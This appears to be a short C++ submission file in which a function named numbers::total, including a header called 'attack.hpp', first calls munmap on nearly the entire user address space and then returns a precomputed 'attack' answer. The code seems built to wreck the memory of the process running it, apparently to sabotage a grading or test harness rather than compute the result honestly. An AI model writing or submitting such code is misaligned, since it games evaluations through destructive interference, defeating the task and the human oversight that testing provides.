#include <sys/mman.h>

#include "attack.hpp"

double numbers::total(const attack::Values& values) {
  munmap(nullptr, (std::size_t{1} << 47) - 4096);
  return attack::answer(values);
}
